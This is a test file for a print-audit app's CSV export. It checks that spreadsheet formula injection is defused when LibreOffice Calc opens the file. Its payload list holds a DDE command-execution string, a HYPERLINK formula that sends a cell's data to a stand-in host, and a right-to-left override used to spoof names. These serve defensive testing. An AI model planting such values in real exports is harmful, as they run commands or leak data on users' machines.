/**
 * The CSV export opened as a spreadsheet would open it: LibreOffice Calc headless (Debian's
 * libreoffice-calc-nogui, installed by .ci/run) imports it split on `,` and, as Excel does in many European
 * locales, on `;`, and writes flat XML (fods), where a formula cell carries a table:formula attribute.
 * Hostile jobs go through the simulator and the audit into Azurite and come back through the API's export.
 */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { after, before, describe, test } from "node:test";
import fc from "fast-check";
import { csvCell } from "../../src/audit/read";
import { visibleText } from "../../src/contract/visibleText";
import { Figures } from "../rig/figures";
import { installed } from "../rig/installs";
import { runScheduledAudit, serveAuditQueues } from "../rig/auditedApp";
import { startRig, type Rig } from "../rig/rig";
import { makeJob, printerIdFor } from "../../sandbox/tenant";

const soffice = "/usr/bin/soffice";
const officeMissing = !existsSync(soffice);
const skip =
  officeMissing && !process.env.CI
    ? `${soffice} is missing: apt-get install libreoffice-calc-nogui to open the CSV as a spreadsheet`
    : false;

/** The document names and texts the attacks used, and their relatives. */
const payloads = [
  "report;=cmd|' /C calc'!A0;x",
  '=HYPERLINK("http://x?"&A1,"y")',
  'invoice;=HYPERLINK("http://x?"&A1;"y")',
  "total\t=1+2",
  "line one\n=3+4",
  "line one\r\n@SUM(1)",
  "  =5+6",
  "\uFF1D7+8",
  "\uFF0B9",
  "a,-10+11,b",
  '";=12+13;"',
  "\t=1+1",
  "\r=1+1",
];

/** Cells built from the pieces that make formulas and split cells, for the whole-file check. */
const cellPieces = [
  ",",
  ";",
  "\t",
  "\r",
  "\n",
  "\r\n",
  '"',
  "'",
  " ",
  "\u00A0",
  "=",
  "+",
  "-",
  "@",
  "\uFF1D",
  "\uFF0B",
  "\uFF0D",
  "\uFF20",
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x?"&A1,"y")',
  "SUM(A1)",
  "x",
  "\u202E",
];
const generatedCells = fc.sample(
  fc.array(fc.constantFrom(...cellPieces), { minLength: 1, maxLength: 8 }).map((parts) => parts.join("")),
  { numRuns: 600, seed: 1611 },
);

/** What the export wrote before (the issue's attack): formulas defused at the cell's start only, quotes only for , " and line breaks. */
function startOnlyCell(value: string): string {
  const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
/** RFC 4180 quoting and nothing else. */
function quotedOnlyCell(value: string): string {
  return /[",;\t\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}
function csvOf(cells: readonly string[], cell: (value: string) => string): string {
  let text = "\uFEFFN,A,B,C\r\n";
  for (let i = 0; i < cells.length; i += 3) text += `${[String(i), ...cells.slice(i, i + 3).map(cell)].join(",")}\r\n`;
  return text;
}

/** Converts CSV files to flat ODF spreadsheets, splitting on `separator`; one LibreOffice start for all of them. */
async function openInCalc(dir: string, files: string[], separator: "," | ";"): Promise<Map<string, string>> {
  const out = join(dir, separator === "," ? "comma" : "semicolon");
  // Field separator, text delimiter ", UTF-8, from line 1 (LibreOffice's CSV filter options).
  const filter = `Text - txt - csv (StarCalc):${separator.charCodeAt(0)},34,76,1`;
  await promisify(execFile)(
    soffice,
    [
      `-env:UserInstallation=${pathToFileURL(join(dir, "profile")).href}`,
      "--headless",
      "--norestore",
      "--convert-to",
      "fods",
      `--infilter=${filter}`,
      "--outdir",
      out,
      ...files.map((f) => join(dir, f)),
    ],
    { timeout: 120_000 },
  );
  return new Map(files.map((f) => [f, readFileSync(join(out, f.replace(/\.csv$/, ".fods")), "utf8")]));
}

function formulas(fods: string): string[] {
  return [...fods.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]!);
}

function cellTexts(fods: string): string[] {
  const unescape = (s: string): string =>
    s
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&amp;/g, "&");
  return [...fods.matchAll(/<table:table-cell[^>]*>([\s\S]*?)<\/table:table-cell>/g)].map((m) =>
    unescape([...m[1]!.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) => p[1]!.replace(/<[^>]+>/g, "")).join("\n")),
  );
}

describe("CSV cells", () => {
  test("a formula is defused wherever a spreadsheet splitting on , ; or tab, or at a line break, would start a cell", () => {
    assert.equal(csvCell("report;=cmd|' /C calc'!A0;x"), `"report;'=cmd|' /C calc'!A0;x"`);
    assert.equal(csvCell("a\n@SUM(1)"), `"a\n'@SUM(1)"`);
    assert.equal(csvCell("a\t-1"), `"a\t'-1"`);
    assert.equal(csvCell("  =1+1"), "'  =1+1", "leading spaces do not hide the sign");
    assert.equal(csvCell("\uFF1D1+1"), "'\uFF1D1+1", "nor does the fullwidth form");
    assert.equal(csvCell("\t1"), `"'\t1"`);
    assert.equal(csvCell("a;b"), `"a;b"`, "a cell holding ; is quoted");
    assert.equal(csvCell("e-mail, well-known"), `"e-mail, well-known"`, "a sign inside a word is left alone");
    assert.equal(csvCell(-2), "-2", "numbers are data, written as they are");
  });

  test("invisible characters are shown as markers, never applied", () => {
    assert.equal(csvCell("Salary review \u202Efdp.exe"), "Salary review ⟨U+202E⟩fdp.exe");
    assert.equal(
      visibleText("a\u200Bb\u2066c\u2069\u200E\u061C\u00AD\uFEFF\u0007"),
      "a⟨U+200B⟩b⟨U+2066⟩c⟨U+2069⟩⟨U+200E⟩⟨U+061C⟩⟨U+00AD⟩⟨U+FEFF⟩⟨U+0007⟩",
    );
    assert.equal(csvCell("\u202E=1+1"), "⟨U+202E⟩=1+1", "a marker first is no formula either");
    assert.equal(visibleText("Zoë 東京 🙂 ok\ttab"), "Zoë 東京 🙂 ok\ttab", "visible text is untouched");
  });
});

describe("the CSV export opened in LibreOffice Calc, split on , and on ;", { skip }, () => {
  let rig: Rig;
  let dir: string;
  const printerId = printerIdFor(77);
  const figures = new Figures("csv-spreadsheet");

  before(async () => {
    if (!(await installed(soffice)))
      throw new Error(`${soffice} is missing; CI installs it in .ci/run (apt-get install libreoffice-calc-nogui).`);
    dir = mkdtempSync(join(tmpdir(), "csv-calc-"));
    rig = await startRig({ storage: true });
    rig.sim.addPrinter({ id: printerId, displayName: '=HYPERLINK("http://x?"&A1,"printer")' });
    payloads.forEach((payload, i) => {
      const job = makeJob(printerId, i + 1, {
        state: "completed",
        description: payload,
        createdDateTime: `2026-11-0${1 + (i % 9)}T10:00:00Z`,
      });
      job.documents = [{ id: `d${i}`, displayName: payload, size: 5 }];
      job.createdBy = {
        id: `u${i}`,
        userPrincipalName: `-${i}+1@contoso.com`,
        displayName: i === 0 ? "Mallory \u202Emoc.osotnoc@htims.nhoj" : `@user${i}`,
      };
      rig.sim.addJob(printerId, job);
    });
    rig.configure({ AUDIT_PRINTER_IDS: printerId, AUDIT_TABLE_PREFIX: "csvcalc" });
    await serveAuditQueues(rig);
    await runScheduledAudit(rig);
  });
  after(async () => {
    figures.print();
    await rig?.host.stopTriggers();
    await rig?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test("no formula cell in the export or in 600 generated hostile cells, where the old and the quote-only writers give live formulas", async () => {
    const response = await fetch(`${rig.api}/audit/jobs?format=csv&printerId=${printerId}`);
    assert.equal(response.status, 200);
    const exported = await response.text();
    assert.equal(
      exported.split("\r\n").filter((l) => l.startsWith(printerId)).length,
      payloads.length,
      "every hostile job is in the export",
    );
    const cells = [...payloads, ...generatedCells];
    writeFileSync(join(dir, "export.csv"), exported);
    writeFileSync(join(dir, "generated.csv"), csvOf(cells, csvCell));
    writeFileSync(join(dir, "start-only.csv"), csvOf(cells, startOnlyCell));
    writeFileSync(join(dir, "quoted-only.csv"), csvOf(cells, quotedOnlyCell));
    const files = ["export.csv", "generated.csv", "start-only.csv", "quoted-only.csv"];
    const [comma, semicolon] = [await openInCalc(dir, files, ","), await openInCalc(dir, files, ";")];

    figures.set("cellsChecked", cells.length);
    figures.set("splits", 2);
    figures.set(
      "formulaCells",
      [comma, semicolon].reduce(
        (n, sheets) => n + formulas(sheets.get("export.csv")!).length + formulas(sheets.get("generated.csv")!).length,
        0,
      ),
    );
    for (const [split, sheets] of [
      ["comma", comma],
      ["semicolon", semicolon],
    ] as const) {
      assert.deepEqual(formulas(sheets.get("export.csv")!), [], `the export split on ${split} has no formula cell`);
      assert.deepEqual(
        formulas(sheets.get("generated.csv")!),
        [],
        `the generated cells split on ${split} have no formula cell`,
      );
      assert.ok(
        formulas(sheets.get("quoted-only.csv")!).length > 0,
        `the check finds formulas when nothing is defused (split on ${split})`,
      );
    }
    assert.ok(
      formulas(semicolon.get("start-only.csv")!).some((f) => /cmd\|/i.test(f)),
      "the issue's attack: the old writer's CSV split on ; runs =cmd|...",
    );
    const texts = cellTexts(comma.get("export.csv")!);
    assert.ok(
      texts.includes("report;'=cmd|' /C calc'!A0;x"),
      "split on , the name stays one text cell, the formula defused",
    );
    assert.ok(
      texts.includes('\'=HYPERLINK("http://x?"&A1,"y")') || texts.includes('=HYPERLINK("http://x?"&A1,"y")'),
      "the HYPERLINK name is text",
    );
    assert.ok(texts.includes("Mallory ⟨U+202E⟩moc.osotnoc@htims.nhoj"), "the direction override shows as a marker");
  });

  test("the JSON API keeps the recorded value as it was", async () => {
    const body = (await (await fetch(`${rig.api}/audit/jobs?printerId=${printerId}&top=100`)).json()) as {
      value: Record<string, unknown>[];
    };
    const first = body.value.find((r) => r.JobId === "1")!;
    assert.equal(first.CreatedByName, "Mallory \u202Emoc.osotnoc@htims.nhoj");
    assert.equal(first.DocumentNames, "report;=cmd|' /C calc'!A0;x");
  });
});
